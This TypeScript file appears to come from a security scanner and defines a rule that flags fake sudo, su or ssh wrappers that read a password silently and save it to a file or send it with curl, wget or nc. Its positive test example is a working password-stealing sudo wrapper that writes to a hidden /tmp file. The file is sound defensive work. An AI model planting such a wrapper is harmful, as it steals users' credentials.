/**
 * A wrapper of sudo, su, ssh… (a shell function, an alias, or a file of that name put first on
 * the user's PATH) that reads the password without echo, as SR-CRED-012 finds, and then keeps it
 * (appends it to a file) or sends it: the password is stolen, not only asked for.
 */
import type { Hit, Rule, Segment } from "../types.js";
import { capturesPassword } from "./startup-carriers.js";

/** The silently read name, then written to a file or sent, within the wrapper's next lines. */
function keptOrSent(segment: Segment): Hit[] {
  for (const read of capturesPassword(segment)) {
    const body = segment.text.slice(read.index, read.index + 1200).split("\n").slice(0, 20).join("\n");
    const name = /(?:\b|(?<=\\n))read\b[^\n;\\]*?\s([A-Za-z_]\w*)\s*(?:[;\n\\]|$)/.exec(body)?.[1];
    if (!name) continue;
    const v = String.raw`\$\{?${name}\b`;
    const kept = new RegExp(String.raw`${v}[^\n|]{0,120}>>?\s*[~/$"'\w]|${v}[^\n]{0,120}\|\s*(?:tee|curl|wget|nc|ncat|base64)\b|(?:\b|(?<=\\n))(?:curl|wget|nc)\b[^\n]{0,200}${v}`).exec(body);
    if (kept) return [{ index: read.index + kept.index, length: kept[0].length }];
  }
  return [];
}

export const passwordWrapperRules: Rule[] = [
  {
    id: "SR-CRED-030",
    title: "Password wrapper that keeps or sends the password",
    category: "credential-access",
    severity: "critical",
    message: "A wrapper named like sudo, su or ssh reads the password without echo and writes it to a file or sends it: the typed password is stolen.",
    fix: "Remove the wrapper; let the real command prompt for its own password.",
    fileKinds: ["shell", "other-code", "powershell", "python", "javascript"],
    context: "payload",
    keywords: ["sudo", "su", "doas", "pkexec", "passwd", "ssh", "scp", "kinit", "gpg"],
    reach: 1600,
    match: keptOrSent,
    examples: {
      positive: ["cat > ~/.local/bin/sudo <<'W'\n#!/bin/bash\nread -s -p \"[sudo] password: \" pw; echo\necho \"$pw\" >> /tmp/.cache-$USER\necho \"$pw\" | /usr/bin/sudo -S \"$@\"\nW"],
      negative: ["sudo() {\n  read -rsp \"[sudo] password for $USER: \" P; echo\n  echo \"$P\" | command sudo -S \"$@\"\n}"],
    },
  },
];
